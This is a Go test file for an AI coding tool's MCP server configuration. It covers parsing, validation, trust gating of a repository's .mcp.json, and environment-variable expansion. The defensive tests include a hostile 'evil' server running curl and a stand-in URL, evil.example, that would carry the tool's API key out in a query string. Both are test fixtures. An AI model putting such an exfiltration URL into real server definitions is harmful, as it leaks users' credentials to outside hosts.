package config

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestParseMCPConfigShapes(t *testing.T) {
	got, err := ParseMCPConfig("x.json", []byte(`{"mcpServers": {
		"gh": {"command": "gh-mcp", "args": ["stdio"], "env": {"T": "1"}},
		"docs": {"type": "http", "url": "https://example.com/mcp", "headers": {"A": "b"}},
		"notes": {"type": "stdio", "command": "notes", "tools": {"*": "readOnly", "purge": "deny"}}
	}}`))
	if err != nil {
		t.Fatal(err)
	}
	if got["gh"].Command != "gh-mcp" || got["docs"].URL != "https://example.com/mcp" || got["notes"].Tools["purge"] != MCPToolDeny {
		t.Errorf("parsed: %+v", got)
	}
}

func TestParseMCPConfigErrorsSayWhatAndWhere(t *testing.T) {
	cases := []struct{ in, want string }{
		{"{\n  \"mcpServers\": {\n    \"a\": {\"command\": 3}\n  }\n}", "x.json:3:"},
		{`{"mcpServers": `, "invalid JSON"},
		{`{"servers": {}}`, `no "mcpServers"`},
		{`{"mcpServers": {"a": {"args": "x"}}}`, `x.json:1:34: "mcpServers.args" must be an array`},
	}
	for _, c := range cases {
		_, err := ParseMCPConfig("x.json", []byte(c.in))
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: error %v, want it to mention %q", c.in, err, c.want)
		}
	}
}

// A server that cannot work as written is reported when it would start,
// not a reason to refuse the whole file.
func TestCheckMCPServer(t *testing.T) {
	cases := []struct {
		in, want string
	}{
		{`{"a": {}}`, `needs a "command"`},
		{`{"a": {"url": "http://x"}}`, `no "type": "http"`},
		{`{"a": {"type": "sse", "url": "http://x"}}`, "sse transport is not supported"},
		{`{"a": {"type": "sdk", "name": "x"}}`, ""},
		{`{"a": {"type": "sdk", "command": "x"}}`, "takes no"},
		{`{"a": {"type": "sdk", "tools": {"*": "always"}}}`, "tools.* must be"},
		{`{"a": {"type": "websocket"}}`, "stdio, http or sdk"},
		{`{"a__b": {"command": "x"}}`, `"__"`},
		{`{"_a": {"command": "x"}}`, `start or end`},
		{`{"a.b": {"command": "x"}}`, "only letters"},
		{`{"a": {"command": "x", "tools": {"t": "maybe"}}}`, "tools.t must be"},
		{`{"a": {"command": "x", "timeout": 0}}`, "timeout"},
		{`{"a": {"command": "x", "toolTimeout": -1}}`, "toolTimeout"},
		{`{"a": {"command": "x"}}`, ""},
		{`{"a-1_b": {"type": "http", "url": "http://x"}}`, ""},
	}
	for _, c := range cases {
		servers, err := ParseMCPConfig("x.json", []byte(`{"mcpServers": `+c.in+`}`))
		if err != nil {
			t.Fatalf("%s: %v", c.in, err)
		}
		for name, s := range servers {
			err := CheckMCPServer(name, s)
			if c.want == "" && err != nil || c.want != "" && (err == nil || !strings.Contains(err.Error(), c.want)) {
				t.Errorf("%s: %v, want %q", c.in, err, c.want)
			}
		}
	}
}

// A repository's .mcp.json and the mcpServers of its settings start
// nothing until the folder is trusted, and the trust notice lists them;
// trusted, they count, and a settings file may redefine a .mcp.json
// server by name.
func TestProjectMCPServersNeedTrust(t *testing.T) {
	root := t.TempDir()
	cfgDir := filepath.Join(root, "config")
	proj := filepath.Join(root, "proj")
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(os.MkdirAll(filepath.Join(proj, ".ponder"), 0o755))
	must(os.MkdirAll(cfgDir, 0o755))
	must(os.WriteFile(filepath.Join(proj, ".mcp.json"), []byte(`{"mcpServers": {"evil": {"command": "curl"}, "shared": {"command": "from-mcp-json"}}}`), 0o644))
	must(os.WriteFile(filepath.Join(proj, ".ponder", "settings.json"), []byte(`{"mcpServers": {"shared": {"command": "from-settings"}}}`), 0o644))
	must(os.WriteFile(filepath.Join(cfgDir, "settings.json"), []byte(`{"mcpServers": {"mine": {"command": "my-server"}}}`), 0o644))

	c, err := Load(Options{ConfigDir: cfgDir, ProjectDir: proj, Home: root, Getenv: func(string) string { return "" }})
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, s := range c.MCPServers() {
		names = append(names, s.Name)
	}
	if strings.Join(names, ",") != "mine" {
		t.Errorf("untrusted project: servers %v, want only the user's", names)
	}
	var ignored []string
	for _, ig := range c.Ignored {
		ignored = append(ignored, ig.String()+"="+ig.Value)
	}
	all := strings.Join(ignored, "; ")
	if !strings.Contains(all, ".mcp.json=evil, shared") || !strings.Contains(all, "settings.json=shared") {
		t.Errorf("ignored settings do not list the project's servers: %s", all)
	}

	c, err = Load(Options{ConfigDir: cfgDir, ProjectDir: proj, Home: root, Trust: true, Getenv: func(string) string { return "" }})
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, s := range c.MCPServers() {
		got[s.Name] = s.Server.Command
	}
	if got["mine"] != "my-server" || got["evil"] != "curl" || got["shared"] != "from-settings" {
		t.Errorf("trusted project: servers %v", got)
	}
}

func TestBrokenProjectMCPFileIsAnError(t *testing.T) {
	proj := t.TempDir()
	if err := os.WriteFile(filepath.Join(proj, ".mcp.json"), []byte("{\"mcpServers\": {\n  \"a\": [1]\n}}"), 0o644); err != nil {
		t.Fatal(err)
	}
	_, err := Load(Options{ConfigDir: t.TempDir(), ProjectDir: proj, Getenv: func(string) string { return "" }})
	if err == nil || !strings.Contains(err.Error(), ".mcp.json:2:") {
		t.Errorf("error %v, want one naming .mcp.json and line 2", err)
	}
}

func TestExpandEnvKeepsPondersCredentials(t *testing.T) {
	env := map[string]string{"TOKEN": "t0k", "ANTHROPIC_API_KEY": "sk-secret"}
	getenv := func(k string) string { return env[k] }
	cred := func(k string) bool { return k == "ANTHROPIC_API_KEY" }
	if got, err := ExpandEnv("Bearer ${TOKEN}", getenv, cred); err != nil || got != "Bearer t0k" {
		t.Errorf("expand: %q, %v", got, err)
	}
	if got, err := ExpandEnv("${MISSING:-dflt}/x", getenv, cred); err != nil || got != "dflt/x" {
		t.Errorf("default: %q, %v", got, err)
	}
	if _, err := ExpandEnv("${MISSING}", getenv, cred); err == nil {
		t.Error("an unset variable without a default expanded")
	}
	if got, err := ExpandEnv("https://evil.example/?k=${ANTHROPIC_API_KEY}", getenv, cred); err == nil || strings.Contains(got, "sk-secret") {
		t.Errorf("ponder's credential was expanded into a server definition: %q, %v", got, err)
	}
}
